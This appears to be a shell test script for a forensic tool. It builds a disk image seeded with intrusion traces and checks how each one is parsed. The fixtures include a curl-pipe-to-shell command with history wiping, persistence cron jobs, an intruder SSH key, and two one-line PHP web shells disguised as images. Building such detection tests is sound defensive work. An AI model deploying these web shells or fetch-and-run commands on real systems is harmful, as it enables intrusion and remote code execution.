#!/usr/bin/env bash
# Host configuration traces read out of a disk image (mke2fs -d, no mount): each file is
# found by is_artifact(), recognised by its path inside the image and parsed like a loose
# file, with the user taken from the home directory inside the image.
source "$(dirname "$0")/../lib.sh"
command -v mke2fs >/dev/null || { skip mke2fs "e2fsprogs not installed"; exit 0; }
T=$TMP/tree
mkdir -p "$T/etc/cron.d" "$T/root" "$T/home/alice/.ssh" "$T/home/alice/.aws" "$T/var/www" \
  "$T/var/spool/cron/crontabs" "$T/home/alice/.local/share/fish"
echo web01 > "$T/etc/hostname"
printf '#1795180000\ncurl -s http://203.0.113.9/x | sh\n#1795180060\nhistory -c\n' > "$T/root/.bash_history"
printf 'id\nuname -a\n' > "$T/var/www/.bash_history"
printf -- '- cmd: sudo -l\n  when: 1795180100\n' > "$T/home/alice/.local/share/fish/fish_history"
printf '*/5 * * * * /tmp/.k/k\n' > "$T/var/spool/cron/crontabs/www-data"
printf '@reboot root /opt/x\n' > "$T/etc/cron.d/x"
printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/bin/bash\n' > "$T/etc/passwd"
printf 'root:$6$salt$Zm9vYmFyYmF6cXV4:20000:0:99999:7:::\n' > "$T/etc/shadow"
printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' > "$T/home/alice/.aws/credentials"
if command -v ssh-keygen >/dev/null; then
  ssh-keygen -q -t ed25519 -N '' -C 'intruder@kali' -f "$TMP/k"
  cp "$TMP/k.pub" "$T/home/alice/.ssh/authorized_keys"
fi
# web roots: the defaults and those named by nginx/Apache configuration inside the image
mkdir -p "$T/var/www/html/wp-content/uploads/2026" "$T/etc/nginx/sites-available" "$T/opt/app/public/img" \
  "$T/etc/apache2/sites-enabled" "$T/srv/site/cgi-bin"
echo '<?php echo 1;' > "$T/var/www/html/index.php"
echo 'body{}' > "$T/var/www/html/style.css"
echo '<?php system($_GET[0]);' > "$T/var/www/html/wp-content/uploads/2026/avatar.php.jpg"
printf 'server {\n  listen 80;\n  root /opt/app/public; # the app\n  location /x { alias /opt/app/x/; }\n  root $document_root;\n}\n' > "$T/etc/nginx/sites-available/app"
echo 'GIF89a<?php eval($_POST[1]);' > "$T/opt/app/public/img/logo.phtml"
echo 'x' > "$T/opt/app/public/app.js"
printf '<VirtualHost *:80>\n\tDocumentRoot "/srv/site"\n</VirtualHost>\n' > "$T/etc/apache2/sites-enabled/000-default.conf"
printf '#!/bin/sh\nid\n' > "$T/srv/site/cgi-bin/status.cgi"
touch -d '2026-11-21 13:05:00' "$T/opt/app/public/img/logo.phtml"
I=$TMP/disk.img
mke2fs -q -t ext4 -d "$T" "$I" 16M || { skip mke2fs_d "mke2fs -d failed"; exit 0; }
C=$TMP/case
expect_rc ingest_image 0 "$KS" ingest -q "$C" "$I"
expect_eq history_in_image "$(q "$C" "SELECT group_concat(coalesce(user,'?') || ':' || shell || ':' || command, '|') FROM (SELECT * FROM shell_history ORDER BY id)")" \
  'alice:fish:sudo -l|root:bash:curl -s http://203.0.113.9/x | sh|root:bash:history -c|?:bash:id|?:bash:uname -a'
expect_eq history_member_path "$(q "$C" "SELECT file FROM events WHERE target='history -c'")" "$I:/root/.bash_history"
expect_eq spool_crontab_user "$(q "$C" "SELECT user || ' ' || kind FROM crontab WHERE command='/tmp/.k/k'")" "www-data user"
expect_eq cron_d_system "$(q "$C" "SELECT user FROM crontab WHERE schedule='@reboot'")" "root"
expect_eq passwd_in_image "$(q "$C" "SELECT flag FROM passwd WHERE name='www-data'")" "service account with a login shell"
expect_eq shadow_in_image "$(q "$C" "SELECT hash_type FROM shadow")" "sha512"
expect_eq shadow_hash_not_stored "$(cat "$C"/*.db | grep -c -F 'Zm9vYmFyYmF6cXV4')" "0"
expect_eq aws_in_image "$(q "$C" "SELECT key_id FROM cloud_credential")" "AKIAIOSFODNN7EXAMPLE"
expect_eq aws_secret_not_stored "$(cat "$C"/*.db | grep -c -F 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY')" "0"
if [ -f "$TMP/k.pub" ]; then
  expect_eq authorized_key_in_image "$(q "$C" "SELECT user || ' ' || fingerprint FROM ssh_authorized_key")" \
    "alice $(ssh-keygen -lf "$TMP/k.pub" | cut -d' ' -f2)"
fi
expect_eq file_modified_time_from_image "$(q "$C" "SELECT count(*) FROM events WHERE source='crontab' AND time_desc='file modified' AND time IS NOT NULL")" "2"
expect_eq web_root_files "$(q "$C" "SELECT group_concat(path || ':' || server_exec || ':' || upload_dir, ' ') FROM (SELECT * FROM web_root_file ORDER BY path)")" \
  "/opt/app/public/app.js:0:0 /opt/app/public/img/logo.phtml:1:1 /srv/site/cgi-bin/status.cgi:1:0 /var/www/.bash_history:0:0 /var/www/html/index.php:1:0 /var/www/html/style.css:0:0 /var/www/html/wp-content/uploads/2026/avatar.php.jpg:1:1"
expect_eq web_root_of_file "$(q "$C" "SELECT root FROM web_root_file WHERE path LIKE '%logo.phtml'")" "/opt/app/public"
expect_eq web_script_in_upload_event "$(q "$C" "SELECT group_concat(target || '@' || time, ' ') FROM (SELECT * FROM events WHERE action='web_script_in_upload_dir' ORDER BY target)")" \
  "/opt/app/public/img/logo.phtml@2026-11-21T13:05:00.000000000Z /var/www/html/wp-content/uploads/2026/avatar.php.jpg@$(q "$C" "SELECT time FROM events WHERE source='filesystem' AND target LIKE '%avatar.php.jpg' AND time_desc='modified'")"
expect_eq web_root_ext "$(q "$C" "SELECT ext FROM web_root_file WHERE path LIKE '%avatar.php.jpg'")" "jpg"
